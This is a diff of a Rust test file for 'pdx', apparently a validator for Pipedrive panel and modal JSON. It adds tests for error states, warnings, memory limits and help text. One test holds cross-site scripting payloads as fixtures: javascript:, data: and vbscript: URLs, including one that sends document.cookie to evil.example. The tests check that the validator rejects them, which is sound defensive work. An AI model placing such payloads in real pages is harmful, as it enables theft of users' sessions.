@@ -28,6 +28,11 @@ fn file(name: &str, text: &str) -> PathBuf {
     path
 }
 
+/// One of Pipedrive's sample files, read.
+fn sample_json(name: &str) -> Value {
+    serde_json::from_str(&std::fs::read_to_string(sample(name)).expect("read")).expect("json")
+}
+
 fn json_file(name: &str, value: &Value) -> PathBuf {
     file(
         name,
@@ -220,9 +225,7 @@ fn warnings_pass_unless_denied() {
 
 #[test]
 fn bad_modal_schema_names_the_offending_option() {
-    let mut schema: Value =
-        serde_json::from_str(&std::fs::read_to_string(sample("todo-modal.json")).expect("read"))
-            .expect("json");
+    let mut schema: Value = sample_json("todo-modal.json");
     schema["properties"]["actions"]["properties"]["submit_action"]["options"]["handler"] =
         json!("submit");
     let bad = json_file("modal.json", &schema);
@@ -466,4 +469,304 @@ fn sign_prints_a_url_whose_token_verifies_against_its_own_query() {
         2,
         "--user and --company are required"
     );
+}
+
+/// A panel's error state (`{"error": {"title", ...}}`) is checked as the error state, recognised by its shape; with
+/// `--status`, a body that does not go with the status is an error.
+#[test]
+fn panel_error_bodies_are_recognised_and_checked_against_the_status() {
+    let structure = sample("app-panel-single-object.json");
+    let error = json_file(
+        "error.json",
+        &json!({ "error": {
+            "title": "Subscription expired",
+            "subtitle": "Please [renew](https://app.example.com/billing).",
+            "action": { "url": "https://app.example.com/billing", "label": "Renew subscription" }
+        } }),
+    );
+    let data = json_file("data.json", &json!({ "data": {} }));
+    let run = |status: Option<&str>, file: &Path| {
+        let mut args = vec![
+            "validate".to_owned(),
+            "panel-response".to_owned(),
+            "--against".to_owned(),
+            structure.clone(),
+        ];
+        if let Some(status) = status {
+            args.extend(["--status".to_owned(), status.to_owned()]);
+        }
+        args.push(p(file));
+        pdx(args)
+    };
+    for status in [None, Some("400"), Some("401"), Some("503")] {
+        let o = run(status, &error);
+        assert_eq!(code(&o), 0, "{status:?}: {}{}", stdout(&o), stderr(&o));
+        assert_eq!(stdout(&o), "");
+    }
+    let o = run(Some("200"), &error);
+    assert_eq!(code(&o), 1, "{}", stdout(&o));
+    assert!(
+        stdout(&o).starts_with(&format!(
+            "{}: /: an error body sent with status 200: Pipedrive shows the error state only for a 4xx or 5xx",
+            p(&error)
+        )),
+        "{}",
+        stdout(&o)
+    );
+    assert_eq!(code(&run(Some("200"), &data)), 0);
+    let o = run(Some("500"), &data);
+    assert_eq!(code(&o), 1, "{}", stdout(&o));
+    assert!(
+        stdout(&o).contains(&format!(
+            "{}: /: status 500 shows the panel's error state",
+            p(&data)
+        )),
+        "{}",
+        stdout(&o)
+    );
+    let o = run(Some("302"), &data);
+    assert!(
+        stdout(&o).contains("/: status 302: a panel endpoint answers"),
+        "{}",
+        stdout(&o)
+    );
+    assert_eq!(code(&run(Some("42"), &data)), 2, "not an HTTP status");
+    // An error body is checked as one: a missing title, an unknown key.
+    let bad = json_file("bad-error.json", &json!({ "error": { "code": 3 } }));
+    let o = run(None, &bad);
+    assert_eq!(code(&o), 1);
+    let out = stdout(&o);
+    assert!(out.contains("/error: missing `title`"), "{out}");
+    assert!(out.contains("/error/code: unknown key `code`"), "{out}");
+}
+
+/// Links Pipedrive opens in the user's browser are refused when their URL runs code: in panel responses, error
+/// states and modal schemas, whatever the case or the whitespace before the scheme.
+#[test]
+fn links_that_run_code_are_errors() {
+    let structure = json_file(
+        "structure.json",
+        &json!({ "type": "object", "properties": {
+            "site": { "$ref": "#/definitions/link", "label": "Site" },
+            "note": { "$ref": "#/definitions/text", "label": "Note" }
+        } }),
+    );
+    let response = json_file(
+        "response.json",
+        &json!({
+            "data": {
+                "site": " \tJaVaScRiPt:alert(document.cookie)",
+                "note": { "markdown": true, "value": "[Open](data:text/html;base64,PHNjcmlwdD4=)" }
+            },
+            "external_link": { "url": "vbscript:msgbox", "label": "All" },
+            "settings": { "url": "https://app.example.com/settings" }
+        }),
+    );
+    let o = pdx([
+        "validate",
+        "panel-response",
+        "--against",
+        &p(&structure),
+        &p(&response),
+    ]);
+    assert_eq!(code(&o), 1, "{}", stdout(&o));
+    let out = stdout(&o);
+    for (pointer, scheme) in [
+        ("/external_link/url", "vbscript"),
+        ("/data/site", "javascript"),
+        ("/data/note/value", "data"),
+    ] {
+        assert!(
+            out.contains(&format!("{}: {pointer}: a ", p(&response)))
+                && out.contains(&format!("`{scheme}:` URL")),
+            "{pointer}: {out}"
+        );
+    }
+    assert!(!out.contains("/settings/url"), "{out}");
+
+    let mut schema: Value = sample_json("todo-modal.json");
+    let options = &mut schema["properties"]["actions"]["properties"]["submit_action"]["options"];
+    options["handler"] = json!("open-url");
+    options["url"] = json!("\u{1}javascript:fetch('https://evil.example/'+document.cookie)");
+    let modal = json_file("modal.json", &schema);
+    let o = pdx(["validate", "modal-schema", &p(&modal)]);
+    assert_eq!(code(&o), 1, "{}", stdout(&o));
+    assert!(
+        stdout(&o).contains(&format!(
+            "{}: /properties/actions/properties/submit_action/options/url: a `javascript:` URL",
+            p(&modal)
+        )),
+        "{}",
+        stdout(&o)
+    );
+}
+
+/// A warning of the `--against` file is printed once, under that file's name, not under each response's.
+#[test]
+fn warnings_of_the_against_file_are_printed_under_its_name() {
+    let mut schema: Value = sample_json("todo-modal.json");
+    // `url` with a `request` handler: a warning of the schema itself.
+    schema["properties"]["actions"]["properties"]["submit_action"]["options"]["url"] =
+        json!("https://app.example.com/save");
+    let schema = json_file("schema.json", &schema);
+    let one = json_file(
+        "one.json",
+        &json!({ "data": { "blocks": {}, "actions": {} } }),
+    );
+    let two = json_file("two.json", &json!({ "data": { "blocks": {} } }));
+    let o = pdx([
+        "validate",
+        "modal-response",
+        "--against",
+        &p(&schema),
+        &p(&one),
+        &p(&two),
+    ]);
+    assert_eq!(code(&o), 0, "{}{}", stdout(&o), stderr(&o));
+    let out = stdout(&o);
+    let lines: Vec<&str> = out.lines().collect();
+    assert_eq!(lines.len(), 1, "{out}");
+    assert!(
+        lines[0].starts_with(&format!(
+            "{}: /properties/actions/properties/submit_action/options/url: warning: `url` is only documented",
+            p(&schema)
+        )),
+        "{out}"
+    );
+    assert!(
+        stderr(&o).contains("2 files checked: 2 valid, 0 invalid; 0 errors, 1 warning"),
+        "{}",
+        stderr(&o)
+    );
+    let denied = pdx([
+        "validate",
+        "--deny-warnings",
+        "modal-response",
+        "--against",
+        &p(&schema),
+        &p(&one),
+    ]);
+    assert_eq!(code(&denied), 1);
+
+    // The same for a data structure: a field label not in sentence case.
+    let structure = json_file(
+        "structure.json",
+        &json!({ "type": "object", "properties": { "due": { "$ref": "#/definitions/date", "label": "Due Date" } } }),
+    );
+    let response = json_file("response.json", &json!({ "data": { "due": "2024-02-29" } }));
+    let o = pdx([
+        "validate",
+        "--format",
+        "json",
+        "panel-response",
+        "--against",
+        &p(&structure),
+        &p(&response),
+    ]);
+    assert_eq!(code(&o), 0, "{}", stdout(&o));
+    let report: Value = serde_json::from_str(&stdout(&o)).expect("one JSON report");
+    assert_eq!(report["against"]["file"], json!(p(&structure)));
+    assert_eq!(report["against"]["warnings"], json!(1));
+    assert_eq!(
+        report["against"]["problems"][0]["pointer"],
+        json!("/properties/due/label")
+    );
+    assert_eq!(report["files"][0]["problems"], json!([]));
+}
+
+/// A modal of buttons only (a confirmation dialog, as the component library shows its buttons) is accepted.
+#[test]
+fn a_modal_of_buttons_only_is_valid() {
+    let modal = json_file(
+        "confirm.json",
+        &json!({ "type": "object", "properties": { "actions": { "type": "object", "properties": {
+            "cancel": { "$ref": "#/definitions/action-secondary", "options": { "label": "Cancel", "handler": "cancel" } },
+            "ok": { "$ref": "#/definitions/action-primary", "options": { "label": "Delete", "handler": "request" } }
+        } } } }),
+    );
+    let o = pdx(["validate", "modal-schema", &p(&modal)]);
+    assert_eq!(code(&o), 0, "{}", stdout(&o));
+    assert_eq!(stdout(&o), "");
+}
+
+/// A schema whose 200,000 select items each carry an invalid `visibleOn` is checked in bounded memory: the
+/// binary runs under a 1 GB address-space limit, reports the first problems and counts the rest.
+#[test]
+fn two_hundred_thousand_invalid_items_are_checked_under_one_gigabyte() {
+    const ITEMS: usize = 200_000;
+    let mut text = String::with_capacity(ITEMS * 64);
+    text.push_str(
+        r##"{"type":"object","properties":{"blocks":{"type":"object","properties":{"s":{"$ref":"#/definitions/element-select","options":{"label":"S","items":["##,
+    );
+    for i in 0..ITEMS {
+        if i > 0 {
+            text.push(',');
+        }
+        text.push_str(&format!(
+            r#"{{"label":"Item {i}","value":{i},"visibleOn":{{"s":{{"between":[1,2]}}}}}}"#
+        ));
+    }
+    text.push_str(
+        r##"]}}}},"actions":{"type":"object","properties":{"ok":{"$ref":"#/definitions/action-primary","options":{"label":"Ok","handler":"request"}}}}}}"##,
+    );
+    let schema = file("huge.json", &text);
+    let o = Command::new("sh")
+        .args([
+            "-c",
+            r#"ulimit -v 1048576; exec "$PDX" validate --format json modal-schema "$FILE""#,
+        ])
+        .env("PDX", env!("CARGO_BIN_EXE_pdx"))
+        .env("FILE", &schema)
+        .output()
+        .expect("run pdx under a memory limit");
+    assert_eq!(
+        o.status.code(),
+        Some(1),
+        "pdx did not finish under 1 GB ({}): {}",
+        o.status,
+        stderr(&o)
+    );
+    let report: Value = serde_json::from_str(&stdout(&o)).expect("one JSON report");
+    let problems = report["files"][0]["problems"].as_array().expect("problems");
+    assert_eq!(problems.len(), 101, "the cap, then the count of the rest");
+    assert_eq!(
+        problems[0]["pointer"],
+        json!("/properties/blocks/properties/s/options/items/0/visibleOn")
+    );
+    let counted = problems[100]["message"].as_str().unwrap_or_default();
+    assert_eq!(
+        counted,
+        format!(
+            "… and {} more problems (pdx reports the first 100)",
+            ITEMS - 100
+        )
+    );
+}
+
+/// Each subcommand's help names the Pipedrive page of its format.
+#[test]
+fn help_cites_pipedrive_pages() {
+    for (sub, page) in [
+        (
+            "panel-structure",
+            "https://pipedrive.readme.io/docs/app-extensions-json-panels",
+        ),
+        (
+            "panel-response",
+            "https://pipedrive.readme.io/docs/app-extensions-json-panels",
+        ),
+        (
+            "modal-schema",
+            "https://pipedrive.readme.io/docs/json-modals-component-library",
+        ),
+        (
+            "modal-response",
+            "https://pipedrive.readme.io/docs/json-modals-user-interaction-handling",
+        ),
+    ] {
+        let o = pdx(["validate", sub, "--help"]);
+        assert_eq!(code(&o), 0);
+        assert!(stdout(&o).contains(page), "{sub}: {}", stdout(&o));
+    }
+    assert!(stdout(&pdx(["validate", "panel-response", "--help"])).contains("--status <CODE>"));
 }
